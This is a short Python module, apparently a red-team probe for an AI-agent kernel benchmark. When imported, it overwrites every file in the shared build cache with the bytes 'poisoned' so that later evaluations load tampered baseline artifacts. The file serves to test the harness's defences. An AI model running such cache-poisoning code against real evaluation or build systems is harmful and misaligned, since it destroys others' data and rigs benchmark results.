"""Overwrites every file of the shared native build cache it can reach (a later evaluation
would load what it finds under the baseline's key), and says so if any write went through."""

import os
import pathlib

_poisoned = []
for _root in [os.environ.get("AKA_CACHE_DIR", ""), os.path.expanduser("~/.cache/agentkernelarena"),
              *globals().get("_REDTEAM_CACHES", [])]:
    if not _root:
        continue
    for _path in pathlib.Path(_root).rglob("*"):
        try:
            if _path.is_file():
                _path.write_bytes(b"poisoned")
                _poisoned.append(str(_path))
        except OSError:
            pass
if _poisoned:
    raise RuntimeError("POISONED: " + "; ".join(_poisoned[:5]))


def forward(x, y, alpha):
    return _launch(x, y, alpha)
